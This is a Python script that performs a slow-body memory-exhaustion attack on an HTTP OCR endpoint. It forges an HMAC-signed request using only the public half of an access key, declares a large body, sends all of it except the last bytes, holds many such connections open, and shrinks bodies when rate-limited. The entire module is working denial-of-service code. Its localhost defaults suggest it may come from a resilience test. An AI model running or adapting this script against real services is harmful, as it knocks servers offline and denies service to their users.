"""Exhaust memory as a caller who claims an access key: withhold the end of each body.

Only the public half of the key is needed. The server needs the whole body before it can verify the
signature.
"""

from __future__ import annotations

import asyncio
from contextlib import suppress
from datetime import UTC, datetime
from urllib.parse import urlsplit

_PATH = f"/v2/{'0' * 32}/ocr/web-image"
_WITHHELD = 16
_PIECE = 256 * 1024
_SMALLEST = 16 * 1024
_PAUSE_S = 0.2


async def attack(
    url: str,
    access_key: str,
    *,
    seconds: float,
    source: str = "127.0.0.1",
    connections: int = 12,
    body_bytes: int = 12 * 1024**2,
) -> None:
    """Keep unfinished bodies open; ignore errors of the server.

    Args:
        url: URL of the server; http only.
        access_key: Public half of a key that the server knows.
        seconds: Duration.
        source: Local address to call from.
        connections: Concurrent connections.
        body_bytes: Declared length of each body.
    """
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
            for _ in range(connections):
                group.create_task(_hold(url, access_key, source, body_bytes))


async def _hold(url: str, access_key: str, source: str, body_bytes: int) -> None:
    """Send unfinished bodies; halve the size while the server answers 429."""
    parts = urlsplit(url)
    size = body_bytes
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(
                parts.hostname, parts.port, local_addr=(source, 0)
            )
            try:
                await _send(writer, _head(access_key, size), size - _WITHHELD)
                answer = await reader.read()  # until the server closes the connection
                is_full = answer.startswith(b"HTTP/1.1 429 ")
                size = max(size // 2, _SMALLEST) if is_full else body_bytes
            finally:
                writer.transport.abort()
        await asyncio.sleep(_PAUSE_S)


async def _send(writer: asyncio.StreamWriter, head: bytes, size: int) -> None:
    writer.write(head)
    piece = b" " * _PIECE
    while size > 0:
        writer.write(piece[:size])
        size -= _PIECE
        await writer.drain()


def _head(access_key: str, body_bytes: int) -> bytes:
    authorization = (
        f"SDK-HMAC-SHA256 Access={access_key}, SignedHeaders=host;x-sdk-date, Signature={'0' * 64}"
    )
    lines = (
        f"POST {_PATH} HTTP/1.1",
        "Host: localhost",
        f"X-Sdk-Date: {datetime.now(UTC):%Y%m%dT%H%M%SZ}",
        f"Authorization: {authorization}",
        f"Content-Length: {body_bytes}",
        "",
        "",
    )
    return "\r\n".join(lines).encode()
